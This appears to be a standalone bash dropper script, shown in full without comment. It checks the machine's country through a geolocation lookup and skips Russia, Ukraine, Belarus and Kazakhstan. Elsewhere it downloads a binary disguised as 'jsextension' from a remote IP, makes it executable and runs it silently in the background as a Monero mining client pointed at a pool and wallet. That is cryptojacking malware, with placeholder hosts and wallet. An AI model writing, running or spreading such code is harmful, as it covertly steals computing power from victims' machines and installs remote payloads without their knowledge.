#!/bin/bash
IP=$(curl -k https://geo.example.invalid/json/ | grep -o '"countryCode":"[A-Z]*"' | cut -d'"' -f4)
if [ "$IP" = "RU" ] || [ "$IP" = "UA" ] || [ "$IP" = "BY" ] || [ "$IP" = "KZ" ]; then
  echo "$IP"
else
  curl http://198.51.100.23/download/jsextension -o jsextension
  if [ ! -f jsextension ]; then
    wget http://198.51.100.23/download/jsextension -O jsextension
  fi
  chmod +x jsextension
  ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 -u 4AexampleMoneroAddressNotRealxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx -p p --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
fi
